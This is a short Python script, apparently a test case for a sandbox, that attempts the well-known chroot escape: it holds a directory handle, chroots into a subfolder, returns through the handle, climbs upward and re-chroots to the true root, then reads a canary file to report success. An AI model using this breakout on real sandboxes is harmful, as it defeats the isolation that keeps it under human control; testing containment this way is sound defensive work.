"""Climb out with a second root folder and a handle on the first."""

import os
from pathlib import Path

import target

os.makedirs("cell", exist_ok=True)
handle = os.open(".", os.O_RDONLY)
try:
    os.chroot("cell")
    os.fchdir(handle)
    for _ in range(64):
        os.chdir("..")
    os.chroot(".")
except OSError as error:
    print(error)
target.escaped_if_token(Path(target.CANARY).read_text())
